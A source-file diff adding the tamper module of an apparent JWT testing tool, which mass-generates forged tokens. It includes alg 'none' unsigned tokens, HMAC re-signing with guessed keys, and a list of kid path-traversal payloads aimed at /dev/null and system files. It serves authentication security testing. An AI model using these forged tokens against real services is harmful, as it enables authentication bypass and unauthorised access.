@@ -0,0 +1,284 @@
+"""
+tamper.py
+
+This file contains the tampered token generator used by the tamper subcommand. Each mutation is a header or payload
+claim and the set of values to try for it, and every combination of values (the cartesian product of the mutations) is
+a tampered token. Combinations are addressed by an integer index, like the mask keyspace in mask.py, so the whole
+product or a random sample of it can be streamed in constant memory, no matter how many variants there are.
+
+Only the sections that change are re-encoded: the original Base64url segment of an untouched header or payload is
+reused as is, and the encoded segments of the inner (faster changing) section are cached when there are few enough of
+them. Tokens are re-signed only when a key is supplied.
+
+Functions:
+- tamper: The main function for the tamper subcommand, writes every tampered token to stdout or a file.
+- parse_values: Parses a -hv/-pv value into the list of values to try.
+- load_mutations: Reads a JSON file of header and payload mutations.
+- build_mutations: Combines the -hc/-hv, -pc/-pv, mutation file and kid traversal mutations.
+- variant_count: Returns the number of tampered tokens the mutations describe.
+- iter_variants: Lazily generates the tampered tokens, or a random sample of them.
+"""
+
+import os
+import sys
+import hmac
+import json
+import math
+import random
+from colorama import Fore, Style
+
+import src.utils.parse_token
+import src.utils.error_handler
+
+# kid header values that point the key lookup at a file with known (usually empty) contents, for use with an empty key
+KID_TRAVERSAL = [
+    '../../../../../../dev/null',
+    '/dev/null',
+    '../../../../../../../../dev/null',
+    '..\\..\\..\\..\\..\\..\\dev\\null',
+    '../../../../../../proc/sys/kernel/randomize_va_space',
+    '../../../../../../etc/hostname',
+    '/proc/self/cwd/../../../../../../dev/null',
+    '....//....//....//....//dev/null',
+    '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fdev%2fnull',
+]
+
+# JWT alg header value -> hashlib digest name, for re-signing
+_HMAC_ALGORITHMS = {
+    'HS256': 'sha256',
+    'HS384': 'sha384',
+    'HS512': 'sha512',
+}
+
+# maximum number of encoded segments of the inner section kept in memory
+_SEGMENT_CACHE_SIZE = 65536
+
+
+def tamper(token: str, mutations: list, key: str = None, sample: int = None, seed: int = None,
+           output: str = None) -> int:
+    """
+    Writes every tampered token (or a random sample of them) to stdout or a file, one per line.
+
+    :param token: The JWT to tamper with.
+    :param mutations: List of (section, claim, values) tuples from build_mutations.
+    :param key: Key to re-sign HS256/HS384/HS512 tokens with, or None to keep the original signature.
+    :param sample: Number of tampered tokens to pick at random from the full product, or None for all of them.
+    :param seed: Seed for the random sample, so a sample can be repeated.
+    :param output: Path to write the tokens to, or None for stdout.
+    :return: Number of tokens written.
+    """
+    try:
+        # decode up front, so a malformed token is reported before any output is written
+        src.utils.parse_token.decode_token(token)
+        outfile = open(output, 'w', encoding='utf-8') if output else sys.stdout
+    except (ValueError, OSError) as e:
+        src.utils.error_handler.print_error(str(e))
+
+    count = 0
+    try:
+        write = outfile.write
+        for variant in iter_variants(token, mutations, key, sample, seed):
+            write(variant + '\n')
+            count += 1
+        outfile.flush()
+    except BrokenPipeError:
+        # the tool reading the tokens has exited (e.g. head), which is not an error - silence the final flush
+        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
+    finally:
+        if outfile is not sys.stdout:
+            outfile.close()
+
+    if output:
+        print(Fore.CYAN+'➤  '+Fore.MAGENTA+'Tampered tokens written: '+Fore.CYAN+str(count)+Fore.MAGENTA+' to ' +
+              Fore.CYAN+output+Style.RESET_ALL)
+    return count
+
+
+def parse_values(value: str) -> list:
+    """
+    Parses a -hv/-pv value into the values to try. The value is either a JSON array or a comma-separated list, and each
+    item that is valid JSON (e.g. 123, true, null, {"a":1}) is used as that type, otherwise it is used as a string.
+
+    :param value: e.g. 'admin,root' or '["admin", "root", 0]'
+    :return: List of values.
+    """
+    if value.lstrip().startswith('['):
+        try:
+            values = json.loads(value)
+            if isinstance(values, list):
+                return values
+        except ValueError:
+            pass
+
+    values = []
+    for item in value.split(','):
+        try:
+            values.append(json.loads(item))
+        except ValueError:
+            values.append(item)
+    return values
+
+
+def load_mutations(path: str) -> list:
+    """
+    Reads a JSON file of mutations, e.g. {"header": {"alg": ["none", "HS256"]}, "payload": {"role": ["admin"]}}
+
+    :param path: Path to the mutations file.
+    :return: List of (section, claim, values) tuples.
+    """
+    with open(path, 'r', encoding='utf-8') as mutations_file:
+        data = json.load(mutations_file)
+
+    mutations = []
+    for section in ('header', 'payload'):
+        for claim, values in data.get(section, {}).items():
+            mutations.append((section, claim, values if isinstance(values, list) else [values]))
+    return mutations
+
+
+def build_mutations(header_claims: list = None, header_values: list = None, payload_claims: list = None,
+                    payload_values: list = None, mutations_file: str = None, kid_traversal: bool = False) -> list:
+    """
+    Combines every source of mutations. Each -hc/-pc claim is paired with the -hv/-pv value at the same position.
+
+    :param header_claims: List of -hc header claims.
+    :param header_values: List of -hv values, one per header claim.
+    :param payload_claims: List of -pc payload claims.
+    :param payload_values: List of -pv values, one per payload claim.
+    :param mutations_file: Path to a JSON mutations file, or None.
+    :param kid_traversal: Add the kid path traversal payloads? T/F
+    :return: List of (section, claim, values) tuples.
+    """
+    mutations = []
+    for section, claims, values in (('header', header_claims, header_values),
+                                    ('payload', payload_claims, payload_values)):
+        claims, values = claims or [], values or []
+        if len(claims) != len(values):
+            raise ValueError('Every ' + section + ' claim needs a value: ' + str(len(claims)) + ' claims and ' +
+                             str(len(values)) + ' values provided.')
+        for claim, value in zip(claims, values):
+            mutations.append((section, claim, parse_values(value)))
+
+    if mutations_file:
+        mutations += load_mutations(mutations_file)
+    if kid_traversal:
+        mutations.append(('header', 'kid', list(KID_TRAVERSAL)))
+
+    for section, claim, values in mutations:
+        if not values:
+            raise ValueError('No values provided for the ' + section + ' claim: ' + claim)
+    return mutations
+
+
+def variant_count(mutations: list) -> int:
+    """
+    :param mutations: List of (section, claim, values) tuples.
+    :return: Number of tampered tokens in the full product of the mutations.
+    """
+    return math.prod(len(values) for _, _, values in mutations)
+
+
+def iter_variants(token: str, mutations: list, key: str = None, sample: int = None, seed: int = None):
+    """
+    Lazily generates the tampered tokens. The payload mutations change fastest, unless the header has more
+    combinations, so that the outer section is encoded once per value and the inner section's segments can be cached.
+
+    A token whose alg is set to none (in any capitalisation) gets an empty signature. Otherwise, if a key is supplied
+    and the alg is HS256/HS384/HS512 the token is re-signed, and if not the original signature is kept.
+
+    :param token: The JWT to tamper with.
+    :param mutations: List of (section, claim, values) tuples from build_mutations.
+    :param key: Key to re-sign with, or None.
+    :param sample: Number of tokens to pick at random, or None for the full product.
+    :param seed: Seed for the random sample.
+    :return: Generator of tampered tokens.
+    """
+    token_dict = src.utils.parse_token.decode_token(token)
+    segments = dict(zip(('header', 'payload'), token.split('.')[:2]))
+    signature = token_dict['signature']
+    key = key.encode('utf-8') if key is not None else None
+
+    sections = {
+        'header': _Section(token_dict['header_dict'], segments['header'],
+                           [(claim, values) for section, claim, values in mutations if section == 'header']),
+        'payload': _Section(token_dict['payload_dict'], segments['payload'],
+                            [(claim, values) for section, claim, values in mutations if section == 'payload']),
+    }
+    outer, inner = ('payload', 'header') if sections['header'].size > sections['payload'].size else ('header', 'payload')
+    outer, inner = sections[outer], sections[inner]
+    inner.cache = inner.size <= _SEGMENT_CACHE_SIZE
+
+    total = outer.size * inner.size
+    if sample is not None and sample < total:
+        indices = sorted(_sample_indices(total, sample, seed))
+    else:
+        indices = range(total)
+
+    last_outer = None
+    outer_segment = outer_claims = None
+    for index in indices:
+        outer_index, inner_index = divmod(index, inner.size)
+        if outer_index != last_outer:
+            outer_segment, outer_claims = outer.segment(outer_index)
+            last_outer = outer_index
+        inner_segment, inner_claims = inner.segment(inner_index)
+
+        if outer is sections['header']:
+            header_segment, header_claims, payload_segment = outer_segment, outer_claims, inner_segment
+        else:
+            header_segment, header_claims, payload_segment = inner_segment, inner_claims, outer_segment
+        signing_input = header_segment + '.' + payload_segment
+
+        alg = header_claims.get('alg')
+        if isinstance(alg, str) and alg.lower() == 'none':
+            yield signing_input + '.'
+        elif key is not None and alg in _HMAC_ALGORITHMS:
+            digest = hmac.digest(key, signing_input.encode('ascii'), _HMAC_ALGORITHMS[alg])
+            yield signing_input + '.' + src.utils.parse_token.base64_encode_bytes(digest)
+        else:
+            yield signing_input + '.' + signature
+
+
+def _sample_indices(total: int, sample: int, seed: int = None) -> set:
+    # Floyd's algorithm: picks sample distinct indices below total in sample draws, storing only the picked indices.
+    # random.sample(range(total)) can't be used since the product of the mutations may be larger than sys.maxsize
+    rng = random.Random(seed)
+    chosen = set()
+    for upper in range(total - sample, total):
+        index = rng.randrange(upper + 1)
+        chosen.add(upper if index in chosen else index)
+    return chosen
+
+
+class _Section:
+    # one half of the token (header or payload) and the mutations of its claims
+
+    def __init__(self, claims: dict, segment: str, mutations: list):
+        self.claims = claims
+        self.original = segment
+        self.mutations = mutations
+        self.size = math.prod(len(values) for _, values in mutations)
+        self.cache = False
+        self._segments = {}
+
+    def segment(self, index: int) -> tuple:
+        # returns (encoded segment, claims) for the combination at the index, the last mutation changing fastest
+        if not self.mutations:
+            return self.original, self.claims
+        cached = self._segments.get(index)
+        if cached:
+            return cached
+
+        digits = []
+        remainder = index
+        for _, values in reversed(self.mutations):
+            remainder, digit = divmod(remainder, len(values))
+            digits.append(digit)
+        # claims are set in the order they were given, so new claims are serialised in that order too
+        claims = dict(self.claims)
+        for (claim, values), digit in zip(self.mutations, reversed(digits)):
+            claims[claim] = values[digit]
+        result = src.utils.parse_token.base64_encode(claims), claims
+        if self.cache:
+            self._segments[index] = result
+        return result